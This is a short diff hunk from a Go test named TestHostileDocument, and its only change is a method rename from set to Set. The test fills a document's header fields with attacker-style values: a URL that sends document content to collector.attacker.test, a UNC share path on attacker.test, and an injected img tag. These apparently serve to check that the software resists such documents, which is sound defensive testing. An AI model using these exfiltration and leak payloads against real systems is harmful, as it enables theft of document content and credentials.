@@ -29,9 +29,9 @@ func TestHostileDocument(t *testing.T) {
 	lookups := countLookups(t)
 	stolen := s.stolen(t, contoso, license.UsagePL)
 	hints := func(t *testing.T, h header) {
-		h.set(t, fieldServiceHint, "https://"+contacted.address+"/rms")
-		h.set(t, fieldContactHint, "http://collector.attacker.test/"+doc.content.String())
-		h.set(t, fieldDescriptor, `\\attacker.test\share\icon.ico <img src="`+contacted.url+`">`)
+		h.Set(t, fieldServiceHint, "https://"+contacted.address+"/rms")
+		h.Set(t, fieldContactHint, "http://collector.attacker.test/"+doc.content.String())
+		h.Set(t, fieldDescriptor, `\\attacker.test\share\icon.ico <img src="`+contacted.url+`">`)
 	}
 	replaced := func(t *testing.T, raw []byte) []byte {
 		t.Helper()
